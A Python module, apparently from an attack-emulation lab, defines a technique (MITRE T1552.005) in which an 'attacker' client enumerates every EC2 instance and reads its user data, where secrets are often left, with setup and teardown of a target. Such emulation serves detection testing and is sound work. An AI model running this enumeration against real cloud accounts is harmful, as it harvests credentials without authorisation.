"""ec2-get-user-data: read the user data of every instance, where secrets are often left (T1552.005)."""

from __future__ import annotations

from pathlib import Path

from lab.attacks.base import Prerequisites
from lab.attacks.compromised_user import CompromisedUserActivity
from lab.attacks.target_instance import delete_target, ensure_target
from lab.emulator.endpoints import Endpoints


class Ec2GetUserData(CompromisedUserActivity):
    folder = Path(__file__).parent

    def prepare(self, endpoints: Endpoints) -> Prerequisites:
        return ensure_target(endpoints, self.id)

    def act(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        ec2 = endpoints.client("ec2", "attacker")
        for reservation in ec2.describe_instances()["Reservations"]:
            for instance in reservation["Instances"]:
                ec2.describe_instance_attribute(
                    InstanceId=instance["InstanceId"], Attribute="userData"
                )

    def dispose(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        delete_target(endpoints, prerequisites, self.id)


TECHNIQUE = Ec2GetUserData
